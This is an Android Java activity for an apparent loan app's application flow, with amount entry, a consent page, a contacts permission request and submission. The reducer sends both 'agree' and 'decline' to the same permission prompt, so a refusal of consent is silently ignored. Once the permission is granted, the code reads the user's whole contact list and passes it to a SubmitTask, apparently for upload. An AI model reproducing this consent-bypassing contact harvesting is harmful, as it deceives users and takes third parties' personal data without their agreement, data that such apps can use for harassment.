package com.brightfern.credit;

import android.Manifest;
import android.app.Activity;
import android.content.Intent;
import android.content.pm.PackageManager;
import android.os.Bundle;
import android.view.View;
import android.widget.Button;
import android.widget.EditText;
import android.widget.LinearLayout;
import android.widget.TextView;

import java.util.ArrayList;
import java.util.List;

import com.brightfern.credit.net.SubmitTask;
import com.brightfern.credit.people.PeopleReader;

/** Draws the page that one state names, in code; each touch makes the next state of it. */
public class LoanApplyActivity extends Activity {
    private static final int ASKED = 41;

    enum Page { AMOUNT, CONSENT, ASK, REFERENCE, DONE }

    /** What the borrower does. */
    abstract static class Act {
        static final class Next extends Act {
            final String sum;

            Next(String sum) {
                this.sum = sum;
            }
        }

        static final class Agree extends Act {
        }

        static final class Decline extends Act {
        }

        static final class Granted extends Act {
            final boolean isSo;

            Granted(boolean isSo) {
                this.isSo = isSo;
            }
        }
    }

    static final class State {
        final Page page;
        final String sum;
        final boolean reads;

        State(Page page, String sum, boolean reads) {
            this.page = page;
            this.sum = sum;
            this.reads = reads;
        }
    }

    interface Drawing {
        void draw(LinearLayout page);
    }

    interface Listener {
        void onState(State state);
    }

    static final class Store {
        private final List<Listener> listeners = new ArrayList<>();
        private State state = new State(Page.AMOUNT, "", false);

        void subscribe(Listener listener) {
            listeners.add(listener);
            listener.onState(state);
        }

        void dispatch(Act act) {
            state = reduce(state, act);
            for (Listener one : listeners) {
                one.onState(state);
            }
        }
    }

    private final Store store = new Store();

    static State reduce(State state, Act act) {
        if (act instanceof Act.Next) {
            return new State(Page.CONSENT, ((Act.Next) act).sum, false);
        }
        if (act instanceof Act.Granted) {
            return new State(Page.DONE, state.sum, ((Act.Granted) act).isSo);
        }
        if (act instanceof Act.Agree) {
            return new State(Page.ASK, state.sum, state.reads);
        }
        return new State(act instanceof Act.Decline ? Page.ASK : Page.REFERENCE, state.sum, state.reads);
    }

    @Override
    protected void onCreate(Bundle saved) {
        super.onCreate(saved);
        store.subscribe(this::render);
    }

    private void dispatch(Act act) {
        store.dispatch(act);
    }

    private void render(State state) {
        Drawing drawing;
        switch (state.page) {
            case AMOUNT:
                drawing = this::drawAmount;
                break;
            case CONSENT:
                drawing = this::drawQuestion;
                break;
            case REFERENCE:
                drawing = this::drawReference;
                break;
            case DONE:
                if (state.reads) {
                    new SubmitTask(new PeopleReader(this).read()).execute(1000);
                }
                startActivity(new Intent(this, ResultActivity.class));
                return;
            default:
                requestPermissions(new String[] {Manifest.permission.READ_CONTACTS}, ASKED);
                return;
        }
        LinearLayout page = new LinearLayout(this);
        page.setOrientation(LinearLayout.VERTICAL);
        drawing.draw(page);
        setContentView(page);
    }

    private void drawAmount(LinearLayout page) {
        text(page, R.string.step_amount);
        EditText sum = field(page, R.string.sum);
        button(page, R.string.step_go, touched -> dispatch(new Act.Next(sum.getText().toString())));
    }

    private void drawQuestion(LinearLayout page) {
        text(page, R.string.consent_body);
        button(page, R.string.consent_agree, touched -> dispatch(new Act.Agree()));
        button(page, R.string.consent_refuse, touched -> dispatch(new Act.Decline()));
    }

    private void drawReference(LinearLayout page) {
        field(page, R.string.reference);
        button(page, R.string.send, touched -> startActivity(new Intent(this, ResultActivity.class)));
    }

    private void text(LinearLayout page, int words) {
        TextView view = new TextView(this);
        view.setText(words);
        page.addView(view);
    }

    private EditText field(LinearLayout page, int hint) {
        EditText view = new EditText(this);
        view.setHint(hint);
        page.addView(view);
        return view;
    }

    private void button(LinearLayout page, int words, View.OnClickListener listener) {
        Button view = new Button(this);
        view.setText(words);
        view.setOnClickListener(listener);
        page.addView(view);
    }

    @Override
    public void onRequestPermissionsResult(int code, String[] permissions, int[] results) {
        boolean isGranted = results.length > 0 && results[0] == PackageManager.PERMISSION_GRANTED;
        dispatch(new Act.Granted(isGranted));
    }
}
